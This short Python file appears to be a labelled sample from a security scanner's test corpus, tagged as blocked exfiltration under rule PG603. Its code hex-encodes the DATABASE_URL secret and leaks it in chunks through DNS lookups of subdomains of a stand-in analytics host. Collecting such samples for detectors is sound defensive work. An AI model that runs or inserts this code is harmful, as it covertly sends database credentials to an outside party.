# pyguard-corpus: verdict=block category=exfil rules=PG603
# what: hex-encodes the environment's secrets and resolves them as host names with socket.getaddrinfo
import os
import socket

secret = os.environ.get("DATABASE_URL", "").encode().hex()
for i in range(0, len(secret), 50):
    try:
        socket.getaddrinfo(f"{secret[i:i + 50]}.d.example-analytics.org", 53)
    except socket.gaierror:
        pass
